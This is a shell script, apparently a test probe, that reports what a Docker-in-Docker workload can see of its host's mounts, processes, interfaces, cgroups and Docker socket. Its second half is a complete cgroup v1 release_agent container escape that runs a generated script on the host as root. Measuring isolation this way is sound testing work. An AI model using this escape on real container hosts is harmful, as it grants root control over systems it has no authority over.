# shellcheck shell=sh
# dind_host_probe.sh - what a Docker-in-Docker workload can see of the host (busybox sh, as
# root, fed on stdin: `sh -s MNT PID ARG IF CG SOCK < dind_host_probe.sh`).
#
# The test made, on the host: a tmpfs mounted at MNT, a `sleep ARG` process PID in a cgroup
# named CG, a network interface IF, and the outer dockerd's socket SOCK. Prints one line per
# item, `PROBE <mount|process|netif|cgroup|socket> seen <how>...` or `PROBE <item> hidden`.
#
# Two routes: what the workload sees directly (its /proc, /sys, cgroup filesystems it can
# mount), and code run on the host as root by the cgroup v1 release_agent of a named
# hierarchy the workload mounts itself (the classic escape of a container with CAP_SYS_ADMIN
# on the host kernel; the hierarchy is new and private, so no host setting is changed).
MNT=$1 PID=$2 ARG=$3 IF=$4 CG=$5 SOCK=$6
R=/dind-probe.$$
mkdir -p $R
seen() { echo "$2" >>$R/$1; }

# -- direct views
for f in /proc/[0-9]*/mountinfo; do
	grep -qF " $MNT " "$f" 2>/dev/null && { seen mount "mountinfo"; break; }
done
for f in /proc/[0-9]*/cmdline; do
	tr '\0' ' ' <"$f" 2>/dev/null | grep -q "^sleep $ARG " && { seen process "/proc"; break; }
done
{ [ -e /sys/class/net/$IF ] || grep -qE "(^| )$IF:" /proc/net/dev 2>/dev/null; } && seen netif "sysfs"
[ -S "$SOCK" ] && seen socket "path"
# cgroup trees: the mounted one and fresh mounts of v2 and of v1's pids controller
mkdir -p $R/cg2 $R/cg1
mount -t cgroup2 none $R/cg2 2>/dev/null
mount -t cgroup -o pids none $R/cg1 2>/dev/null
for top in /sys/fs/cgroup $R/cg2 $R/cg1; do
	d=$(find $top -maxdepth 3 -type d -name "$CG" 2>/dev/null | head -1)
	[ -n "$d" ] || continue
	seen cgroup "$top"
	grep -qx "$PID" "$d/cgroup.procs" 2>/dev/null && seen process "$top/cgroup.procs"
done
umount $R/cg2 2>/dev/null
umount $R/cg1 2>/dev/null

# -- code on the host: release_agent of a named cgroup v1 hierarchy. Its path is a host
# path: the workload's root on the host is the upper layer of its overlay root (or the root
# of a bind-mounted root, as the vfs driver makes).
host_root=$(awk '$5 == "/" { print }' /proc/self/mountinfo | tail -1 | sed -n 's/.*upperdir=\([^,]*\).*/\1/p')
[ -n "$host_root" ] || host_root=$(awk '$5 == "/" && $4 != "/" { print $4 }' /proc/self/mountinfo | tail -1)
mkdir -p $R/rel
if [ -n "$host_root" ] && mount -t cgroup -o none,name=dindprobe$$ none $R/rel 2>/dev/null; then
	cat >$R/agent <<EOF
#!/bin/sh
P=/proc/$PID
{
grep -qF " $MNT " \$P/mountinfo && echo mount
tr '\\0' ' ' <\$P/cmdline | grep -q "^sleep $ARG " && echo process
grep -qE "(^| )$IF:" \$P/net/dev && echo netif
[ -S \$P/root$SOCK ] && echo socket
find /sys/fs/cgroup -maxdepth 3 -type d -name "$CG" | grep -q . && echo cgroup
echo end
} >>$host_root$R/agent.out 2>&1
EOF
	# (the agent appends to a file the workload made: a file created behind the overlay's
	# back, in its upper directory, would stay hidden by the overlay's cached lookup)
	: >$R/agent.out
	chmod 755 $R/agent
	mkdir $R/rel/x
	echo 1 >$R/rel/x/notify_on_release
	echo "$host_root$R/agent" >$R/rel/release_agent 2>/dev/null
	sh -c "echo \$\$ >$R/rel/x/cgroup.procs"
	for i in $(seq 50); do grep -qx end $R/agent.out && break; sleep 0.1; done
	for w in $(grep -vx end $R/agent.out); do seen $w release_agent; done
	for i in $(seq 20); do rmdir $R/rel/x 2>/dev/null && break; sleep 0.1; done
	# (the hierarchy outlives this unmount: the test destroys it from the host)
	umount $R/rel 2>/dev/null
fi

for w in mount process netif cgroup socket; do
	if [ -s $R/$w ]; then echo "PROBE $w seen $(tr '\n' ' ' <$R/$w)"; else echo "PROBE $w hidden"; fi
done
rm -rf $R
